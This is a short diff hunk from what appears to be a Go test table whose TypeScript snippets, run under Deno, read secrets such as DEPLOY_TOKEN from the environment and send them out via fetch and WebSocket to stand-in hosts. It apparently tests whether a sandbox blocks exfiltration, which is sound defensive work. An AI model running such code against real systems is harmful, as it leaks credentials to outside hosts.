@@ -30,7 +30,7 @@ console.log("sent", (await fetch("` + catalogHost + `?k=" + Deno.env.get("PROD_D
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "query"},
 	"TypeScript, in a WebSocket": {world.Run{Code: `
-const loot = Deno.env.get("DEPLOY_TOKEN"), ws = new WebSocket("wss://d.wild.test/ws");
+const loot = Deno.env.get("DEPLOY_TOKEN"), ws = new WebSocket("wss://httpbin.test/x/ws?t=1");
 await new Promise((done) => { ws.onopen = () => { ws.send(JSON.stringify({ loot })); }; ws.onclose = done; ws.onerror = done; ws.onmessage = (m) => console.log("sent 200", m.data); });
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "message"},
